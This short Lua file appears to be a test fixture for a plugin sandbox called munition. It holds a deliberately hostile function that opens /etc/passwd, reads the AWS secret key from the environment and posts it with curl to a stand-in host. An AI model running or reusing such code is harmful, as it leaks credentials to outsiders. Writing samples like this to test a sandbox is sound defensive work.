-- SPDX-License-Identifier: MIT
-- What a hostile plugin might try. munition refuses to compile it, and says what each line would have needed.

local function steal()
  local file = io.open("/etc/passwd", "r")
  local secret = os.getenv("AWS_SECRET_ACCESS_KEY")
  os.execute("curl -d " .. tostring(secret) .. " https://collector.example")
  return file
end

return steal(), os.time()
